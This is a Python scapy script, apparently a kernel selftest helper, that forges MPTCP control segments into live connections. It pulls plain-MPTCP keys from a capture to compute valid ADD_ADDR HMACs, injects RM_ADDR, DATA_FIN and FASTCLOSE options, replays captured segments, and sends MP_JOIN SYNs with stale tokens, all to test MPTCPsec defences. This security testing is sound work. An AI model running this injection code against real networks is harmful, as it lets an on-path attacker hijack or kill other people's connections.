#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Forge MPTCP control segments into a live connection (scapy).

Run in the router namespace of a path.  The test freezes the direction
it forges in (an nft drop rule), so the receiver's rcv_nxt stays put; this
tool takes the next segment the receiver sends (a probe with an old
sequence number makes it send a duplicate ACK), whose acknowledgment
number is that rcv_nxt and whose TSecr is its ts_recent, builds the forged
segment from it and sends it on that interface.  A capture of the
interface gives what the forgery needs besides: addresses, the keys of
plain MPTCP, DSNs and segments to replay.

  mptcp_forge.py opt PCAP IFACE DIR PORT KIND [ARGS]   forged option on a
        pure ACK; KIND: rm_addr ID | add_addr ID ADDR | mp_prio |
        data_fin | fastclose
  mptcp_forge.py replay PCAP IFACE DIR PORT WHAT        a captured segment
        again, at the current sequence number; WHAT: add_addr | ctrl
  mptcp_forge.py join PCAP SRC DST DPORT IFACE          MP_JOIN SYN with the
        token of an earlier connection's join (found in PCAP), sent on IFACE
  mptcp_forge.py token PCAP                             print that token
  mptcp_forge.py serve DIR                              run the commands of
        DIR/N.req (one argument a line) one after another, each one's
        output and exit status to DIR/N.out; until DIR/stop exists.
        Importing scapy takes tens of seconds under TCG: a test starts
        one server and forges in about a second (DIR/ready once ready).

DIR is s2c (towards the client, server's address as source) or c2s.  For
plain MPTCP the keys come from the MP_CAPABLE of the capture (version 1
sends them in clear), so forged ADD_ADDR and FASTCLOSE carry the values a
plain MPTCP peer accepts; MPTCPsec never sends keys, so the forger has
none.  One line "forged: ..." on stdout says what was sent.
"""
import contextlib
import glob
import hashlib
import hmac
import io
import os
import struct
import sys
import time

# only what is used: scapy.all takes three times as long to import
from scapy.config import conf
from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether
from scapy.packet import Raw
from scapy.sendrecv import AsyncSniffer, sendp
from scapy.utils import rdpcap

conf.verb = 0
MPTCP = 30
# every forged segment (not the probe) carries this IP ID and TOS, so that
# the receiver's firewall can count what arrived (tests/sec_ctrl_forge.sh)
MARK = dict(id=0xa77c, tos=0x28)


def mptcp_opts(tcp):
    """raw MPTCP options of a scapy TCP layer: [bytes from subtype on]"""
    out = []
    for kind, val in tcp.options:
        if kind == MPTCP or kind == 'MPTCP':
            out.append(bytes(val))
    return out


def subtype(raw):
    return raw[0] >> 4


def ends(pcap):
    pkts = [p for p in rdpcap(pcap) if IP in p and TCP in p]
    if not pkts:
        sys.exit("no TCP segment in " + pcap)
    return pkts


def keys(pkts):
    """(client key, server key) from a v1 MP_CAPABLE third ACK, or None"""
    for p in pkts:
        for o in mptcp_opts(p[TCP]):
            # subtype 0, version 1, 20 bytes: both keys (RFC 8684 3.1)
            if subtype(o) == 0 and (o[0] & 0xf) == 1 and len(o) >= 18:
                return struct.unpack('!QQ', o[2:18])
    return None


def direction(pkts, dirn, port):
    """segments of DIR: s2c has source port PORT, c2s destination PORT"""
    if dirn == 's2c':
        return [p for p in pkts if p[TCP].sport == port]
    return [p for p in pkts if p[TCP].dport == port]


def plen(p):
    """TCP payload length from the IP header (captures are truncated)"""
    return p[IP].len - p[IP].ihl * 4 - p[TCP].dataofs * 4


def end(p):
    return (p[TCP].seq + plen(p)) & 0xffffffff


def last(pkts, dirn, port):
    seg = direction(pkts, dirn, port)
    if not seg:
        sys.exit("no %s segment for port %d" % (dirn, port))
    # the highest end sequence number: what the receiver has now
    best = seg[-1]
    for p in seg:
        if ((end(p) - end(best)) & 0xffffffff) < 0x80000000:
            best = p
    return best


def ts_of(tcp):
    for kind, val in tcp.options:
        if kind == 'Timestamp':
            return val
    return None


def live(pkts, iface, dirn, port):
    """A segment the receiver sent while DIR is frozen: its ack is the
    receiver's rcv_nxt, its TSecr the receiver's ts_recent.  A probe with
    an old sequence number makes the receiver send one (a duplicate ACK)
    if it sends nothing else; the capture alone may lag behind."""
    tmpl = last(pkts, dirn, port)
    t = tmpl[TCP]
    flt = "tcp and src host %s and src port %d and dst port %d" % \
        (tmpl[IP].dst, t.dport, t.sport)
    sn = AsyncSniffer(iface=iface, filter=flt, count=1, timeout=10)
    sn.start()
    time.sleep(0.5)
    opts = []
    ts = ts_of(t)
    if ts:
        opts = [('NOP', None), ('NOP', None), ('Timestamp', ts)]
    probe = Ether(src=tmpl[Ether].src, dst=tmpl[Ether].dst) / \
        IP(src=tmpl[IP].src, dst=tmpl[IP].dst) / \
        TCP(sport=t.sport, dport=t.dport, seq=(end(tmpl) - 0x40000000) & 0xffffffff,
            ack=t.ack, flags='A', window=t.window, options=opts)
    sendp(probe, iface=iface)
    sn.join()
    if not sn.results:
        sys.exit("no segment from the receiver")
    return tmpl, sn.results[0]


def forge(tmpl, rcv, mopts, payload=b''):
    """a segment of TMPL's direction at the receiver's rcv_nxt (from RCV,
    a live segment of the receiver), with MOPTS"""
    r = rcv[TCP]
    opts = []
    ts = ts_of(r)
    if ts:
        opts += [('NOP', None), ('NOP', None), ('Timestamp', (ts[1], ts[0]))]
    for o in mopts:
        opts.append((MPTCP, o))
    pkt = Ether(src=rcv[Ether].dst, dst=rcv[Ether].src) / \
        IP(src=rcv[IP].dst, dst=rcv[IP].src, ttl=tmpl[IP].ttl, **MARK) / \
        TCP(sport=r.dport, dport=r.sport, seq=r.ack, ack=r.seq, flags='A',
            window=tmpl[TCP].window, options=opts)
    if payload:
        pkt = pkt / Raw(payload)
    return pkt


def add_addr_hmac(k_sender, k_receiver, aid, addr):
    # as upstream's add_addr_generate_hmac(): the port is always there
    msg = bytes([aid]) + bytes(int(x) for x in addr.split('.')) + b'\0\0'
    key = struct.pack('!QQ', k_sender, k_receiver)
    return hmac.new(key, msg, hashlib.sha256).digest()[-8:]


def latest_dsn_end(pkts, dirn, port):
    """end of the highest DSS mapping seen in DIR (64-bit DSNs)"""
    best = None
    for p in direction(pkts, dirn, port):
        for o in mptcp_opts(p[TCP]):
            if subtype(o) != 2 or len(o) < 2:
                continue
            flags, pos = o[1], 2
            if flags & 0x01:
                pos += 8 if flags & 0x02 else 4
            if not flags & 0x04 or not flags & 0x08 or len(o) < pos + 14:
                continue
            dsn = struct.unpack('!Q', o[pos:pos + 8])[0]
            dlen = struct.unpack('!H', o[pos + 12:pos + 14])[0]
            if best is None or dsn + dlen > best:
                best = dsn + dlen
    if best is None:
        sys.exit("no 64-bit DSS mapping seen")
    return best


def cmd_opt(pcap, iface, dirn, port, kind, *args):
    pkts = ends(pcap)
    k = keys(pkts)
    if kind == 'rm_addr':
        o = bytes([0x40, int(args[0])])
    elif kind == 'add_addr':
        aid, addr = int(args[0]), args[1]
        if k:
            # sender is the other end: s2c -> the server's key first
            ks, kr = (k[1], k[0]) if dirn == 's2c' else k
            mac = add_addr_hmac(ks, kr, aid, addr)
        else:
            mac = os.urandom(8)
        o = bytes([0x30, aid]) + bytes(int(x) for x in addr.split('.')) + mac
    elif kind == 'mp_prio':
        o = bytes([0x51])
    elif kind == 'data_fin':
        # DATA_FIN well ahead of what was received, so that it is taken
        dsn = latest_dsn_end(pkts, dirn, port) + int(args[0] if args else 524288)
        o = bytes([0x20, 0x1c]) + struct.pack('!QIH', dsn, 0, 1)
    elif kind == 'fastclose':
        if k:
            # the receiver's key: s2c goes to the client
            rk = k[0] if dirn == 's2c' else k[1]
            val = struct.pack('!Q', rk)
        else:
            val = os.urandom(8)
        o = bytes([0x70, 0]) + val
    else:
        sys.exit("unknown option " + kind)
    tmpl, rcv = live(pkts, iface, dirn, port)
    pkt = forge(tmpl, rcv, [o])
    sendp(pkt, iface=iface)
    print("forged: %s %s %s:%d -> %s:%d seq %d ack %d keys %s" %
          (kind, dirn, pkt[IP].src, pkt[TCP].sport, pkt[IP].dst,
           pkt[TCP].dport, pkt[TCP].seq, pkt[TCP].ack,
           "from capture" if k else "none"))


def is_ctrl(p):
    """an MPTCPsec control record: ctr(8) Topt(16) olen(2) options"""
    pl = bytes(p[TCP].payload)
    if plen(p) < 26 or len(pl) < 26:
        return None
    olen = struct.unpack('!H', pl[24:26])[0]
    if plen(p) != 26 + olen or len(pl) < plen(p):
        return None
    pl = pl[:plen(p)]
    return olen, pl


def cmd_replay(pcap, iface, dirn, port, what):
    pkts = ends(pcap)
    found = None
    for p in direction(pkts, dirn, port):
        mo = mptcp_opts(p[TCP])
        c = is_ctrl(p)
        if what == 'add_addr':
            # plain: an ADD_ADDR option (not an echo); MPTCPsec: a control
            # record carrying a canonical ADD_ADDR (subtype 3)
            if any(subtype(o) == 3 and not o[0] & 1 for o in mo) or \
               (c and c[0] and c[1][26] == 3):
                found = p
                break
        elif what == 'ctrl':
            if (c and not c[0]) or (not plen(p) and
                                    any(subtype(o) == 2 for o in mo)):
                found = p
                break
    if found is None:
        sys.exit("nothing to replay (%s)" % what)
    mo = [o for o in mptcp_opts(found[TCP])]
    payload = bytes(found[TCP].payload)[:plen(found)]
    tmpl, rcv = live(pkts, iface, dirn, port)
    pkt = forge(tmpl, rcv, mo, payload)
    sendp(pkt, iface=iface)
    print("forged: replay of %s (%d payload bytes, captured seq %d) at seq %d" %
          (what, len(payload), found[TCP].seq, pkt[TCP].seq))


def join_token(pcap):
    for p in ends(pcap):
        if p[TCP].flags & 0x12 != 0x02:
            continue
        for o in mptcp_opts(p[TCP]):
            if subtype(o) == 1 and len(o) == 10:
                return struct.unpack('!I', o[2:6])[0]
    sys.exit("no MP_JOIN SYN in " + pcap)


def neigh_mac(iface, dst):
    """the link-layer address of DST on IFACE from the kernel's table"""
    import json
    import subprocess
    out = subprocess.run(['ip', '-j', 'neigh', 'show', 'to', dst, 'dev', iface],
                         capture_output=True, text=True, check=True).stdout
    for n in json.loads(out or '[]'):
        if n.get('lladdr'):
            return n['lladdr']
    sys.exit("no neighbour entry for %s on %s" % (dst, iface))


def cmd_join(pcap, src, dst, dport, iface):
    tok = join_token(pcap)
    o = bytes([0x10, 7]) + struct.pack('!II', tok, struct.unpack('!I', os.urandom(4))[0])
    pkt = IP(src=src, dst=dst, **MARK) / TCP(sport=40000 + os.getpid() % 20000,
                                     dport=int(dport), flags='S',
                                     seq=struct.unpack('!I', os.urandom(4))[0],
                                     options=[('MSS', 1460), (MPTCP, o)])
    # to the server's MAC from the kernel's neighbour table, as the router
    # would forward it (a broadcast MAC would make TCP drop it)
    with open('/sys/class/net/%s/address' % iface) as f:
        me = f.read().strip()
    sendp(Ether(src=me, dst=neigh_mac(iface, dst)) / pkt, iface=iface)
    print("forged: MP_JOIN SYN %s -> %s:%s with stale token %08x" %
          (src, dst, dport, tok))


def run(args):
    """one command: its output and exit status (0 or 1)"""
    buf, rc = io.StringIO(), 0
    with contextlib.redirect_stdout(buf):
        try:
            main(['mptcp_forge.py'] + args)
        except SystemExit as e:
            if e.code:
                rc = 1
                print(e.code if isinstance(e.code, str) else "exit %s" % e.code)
        except Exception as e:  # pylint: disable=broad-except
            rc = 1
            print("error: %r" % e)
    return buf.getvalue(), rc


def serve(d):
    open(os.path.join(d, 'ready'), 'w').close()
    while not os.path.exists(os.path.join(d, 'stop')):
        reqs = sorted(glob.glob(os.path.join(d, '*.req')))
        if not reqs:
            time.sleep(0.1)
            continue
        for r in reqs:
            with open(r) as f:
                args = f.read().split('\n')[:-1]
            os.unlink(r)
            out, rc = run(args)
            with open(r[:-4] + '.tmp', 'w') as f:
                f.write(out + 'rc %d\n' % rc)
            os.rename(r[:-4] + '.tmp', r[:-4] + '.out')


def main(argv):
    if len(argv) < 2:
        sys.exit(__doc__)
    cmd, a = argv[1], argv[2:]
    if cmd == 'opt':
        cmd_opt(a[0], a[1], a[2], int(a[3]), a[4], *a[5:])
    elif cmd == 'replay':
        cmd_replay(a[0], a[1], a[2], int(a[3]), a[4])
    elif cmd == 'join':
        cmd_join(*a)
    elif cmd == 'token':
        print("%08x" % join_token(a[0]))
    elif cmd == 'serve' and len(a) == 1:
        serve(a[0])
    else:
        sys.exit(__doc__)


if __name__ == '__main__':
    main(sys.argv)
